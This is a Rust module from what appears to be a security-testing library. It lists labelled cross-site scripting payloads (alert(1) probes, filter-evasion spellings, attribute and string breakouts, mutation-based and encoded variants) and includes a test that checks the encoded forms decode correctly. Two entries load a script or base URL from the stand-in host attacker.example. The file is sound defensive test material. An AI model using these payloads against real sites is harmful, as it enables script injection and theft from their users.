//! Text that a browser would run as a program.

use super::Inputs;

/// The program in the inputs of [`cross_site_scripting`]: where it stands in a page outside of a string, it would run.
pub const SCRIPT: &str = "alert(1)";

/// Text that a browser would run as a program in a page (CWE-79, CWE-80, CWE-87).
///
/// Elements and attributes that run [`SCRIPT`], for text between tags, for attributes with each kind of quote and
/// without, for strings of a script, for addresses, for style, comments and titles; with other spellings for a filter:
/// case, slashes for spaces, tags within tags, entities, encodings. Ask whether the page has the input as it is, better
/// whether it parses to what was meant.
#[must_use]
pub fn cross_site_scripting() -> Inputs {
    Inputs::texts([
        ("script", "<script>alert(1)</script>"),
        ("script from elsewhere", "<script src=//attacker.example/x.js></script>"),
        ("script in mixed case", "<ScRiPt>alert(1)</sCrIpT>"),
        ("script with a slash", "<script/x>alert(1)</script/x>"),
        ("script left by a filter", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
        ("script without an end", "<script>alert(1)//"),
        ("image that fails", "<img src=x onerror=alert(1)>"),
        ("image without spaces", "<img/src=x/onerror=alert(1)>"),
        ("image with a line end in the tag", "<img\nsrc=x\nonerror=alert(1)\n>"),
        ("image without an end", "<img src=x onerror=alert(1) "),
        ("drawing that loads", "<svg onload=alert(1)>"),
        ("drawing with a script", "<svg><script>alert&#40;1&#41;</script></svg>"),
        ("animation that begins", "<svg><animate onbegin=alert(1) attributeName=x></svg>"),
        ("details that open", "<details open ontoggle=alert(1)>"),
        ("field that takes the focus", "<input autofocus onfocus=alert(1)>"),
        ("frame with a document", "<iframe srcdoc=\"<script>alert(1)</script>\">"),
        ("link to a program", "<a href=javascript:alert(1)>x</a>"),
        ("form to a program", "<form><button formaction=javascript:alert(1)>x</button></form>"),
        ("another base", "<base href=//attacker.example/>"),
        ("address of a program", "javascript:alert(1)"),
        ("address of a program, mixed case", "JaVaScRiPt:alert(1)"),
        ("address of a program, tab in its scheme", "java\tscript:alert(1)"),
        ("address of a program, control first", "\u{1}javascript:alert(1)"),
        ("address of a program, entity", "javascript&colon;alert(1)"),
        ("address with a document", "data:text/html,<script>alert(1)</script>"),
        ("out of an attribute", "\"><script>alert(1)</script>"),
        ("out of an attribute, single quotes", "'><script>alert(1)</script>"),
        ("further attribute", "\" autofocus onfocus=\"alert(1)"),
        ("further attribute, single quotes", "' autofocus onfocus='alert(1)"),
        ("further attribute, no quotes", "x autofocus onfocus=alert(1)"),
        ("further attribute, backquotes", "`autofocus onfocus=alert(1)"),
        ("out of a string of a script", "\";alert(1);//"),
        ("out of a string of a script, single quotes", "';alert(1);//"),
        ("out of a string of a script, backslash", "\\\";alert(1);//"),
        ("out of a template string", "${alert(1)}"),
        ("end of the script in a string", "</script><script>alert(1)</script>"),
        ("line end of a script", "\u{2028}alert(1)"),
        ("out of a comment", "--><script>alert(1)</script>"),
        ("out of a title", "</title><script>alert(1)</script>"),
        ("out of a text area", "</textarea><script>alert(1)</script>"),
        ("out of a style", "</style><script>alert(1)</script>"),
        ("changed while parsed", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        ("changed within MathML", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
        ("as entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("percent-encoded", "%3Cscript%3Ealert(1)%3C/script%3E"),
        ("percent-encoded twice", "%253Cscript%253Ealert(1)%253C/script%253E"),
        ("full width", "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}"),
        ("escapes of a script", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
        ("UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        ("NUL in the tag", "<scr\0ipt>alert(1)</scr\0ipt>"),
        ("Markdown link", "[x](javascript:alert(1))"),
        ("Markdown image", "![x](x\"onerror=\"alert(1))"),
        ("template of a front end", "{{constructor.constructor('alert(1)')()}}"),
    ])
}

#[cfg(test)]
mod tests {
    use super::{super::tests::percent_decoded, *};

    #[test]
    fn encoded_forms_decode_to_the_script() {
        let inputs = cross_site_scripting();
        let of = |label: &str| inputs.iter().find(|input| input.label() == label).unwrap().to_string();
        let script = of("script");
        assert_eq!(percent_decoded(&of("percent-encoded")), script.as_bytes());
        let once = String::from_utf8(percent_decoded(&of("percent-encoded twice"))).unwrap();
        assert_eq!(percent_decoded(&once), script.as_bytes());
        assert_eq!(of("as entities").replace("&lt;", "<").replace("&gt;", ">"), script);
        assert_eq!(of("script left by a filter").replace("<script>", "").replace("</script>", ""), script);
        let unescaped: String = serde_json::from_str(&format!("\"{}\"", of("escapes of a script"))).unwrap();
        assert_eq!(unescaped, script);
        let runs = inputs.iter().filter(|input| input.contains(SCRIPT)).count();
        assert!(runs + 4 >= inputs.len(), "{runs} of {}", inputs.len());
    }
}
